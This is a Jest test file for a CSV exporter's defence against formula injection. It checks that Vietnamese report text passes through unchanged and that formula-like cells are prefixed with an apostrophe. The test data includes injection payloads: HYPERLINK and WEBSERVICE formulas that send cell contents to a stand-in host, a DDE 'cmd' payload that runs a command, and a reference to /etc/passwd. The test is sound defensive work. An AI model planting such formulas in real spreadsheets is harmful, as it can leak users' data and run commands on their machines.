import { describe, expect, it } from '@jest/globals';
import { toCsv } from '../../web/layout/csv.ts';

/** The field as the file has it, between the marks of RFC 4180. */
function fieldOf(text: string): string {
  const line = toCsv([[text]]);
  expect(line).toMatch(/^\uFEFF"[\s\S]*"\r\n$/);
  return line.slice(2, -3).replaceAll('""', '"');
}

describe('a table as CSV', () => {
  it.each([
    'Tình hình ổn định',
    '+ chữ',
    '+ Tổ chức 12 lớp tập huấn',
    '+ Tổ chức giao ban (02 cuộc), đạt 100%',
    '+ 12 lớp tập huấn',
    '+Tổ chức 12 lớp tập huấn\n+ Cấp phát 300 tờ rơi; đạt 100%!',
    '=> chữ',
    '=> đạt yêu cầu',
    '=> 50%',
    '== hết ==',
    '-3 người',
    '- 2-3 người mỗi xã',
    '- Sở Y tế: ổn định',
    '- "Một cửa" liên thông',
    '– năm nay',
    '@ Ban Chỉ đạo tỉnh',
    '+ A1 đạt yêu cầu',
    '+84 912 345 678',
    '-',
    '---',
    '-/-',
    '1 = 1',
    '2024-06-25',
    "'trong ngoặc'",
    '',
  ])('keeps %j as it was written', (text) => expect(fieldOf(text)).toBe(text));

  it.each([
    '=1+1',
    '= 1 + 1',
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\u200b=1+1',
    '\u00a0=1+1',
    '＝1+1',
    '-2+3',
    '+1/2',
    '-5',
    ' +84',
    '@x',
    '=A1',
    '= $A$1',
    '+ B2:C3 C2:D9',
    '= A:A B:B',
    '= R1C1',
    '="a b"&"c d"',
    '={1;2}',
    '=@SUM(A1:A9)',
    '@SUM(1;2)',
    '- SUM(1;2)',
    '=SUM (A1;A2)',
    '=HYPERLINK("http://x.example/?"&A1;"Xem thêm")',
    '+ Xem thêm HYPERLINK ("http://x.example")',
    '+ Tổ chức hội nghị\n=WEBSERVICE("http://x.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+ chữ cmd|' /C calc'!A0",
    "='Trang khác'!A1",
    "= 'file:///etc/passwd'#$x.A1",
    '=x!A1',
    '=1+1";=1+1',
  ])('puts an apostrophe before %j and changes nothing in it', (text) =>
    expect(fieldOf(text)).toBe(`'${text}`),
  );
});
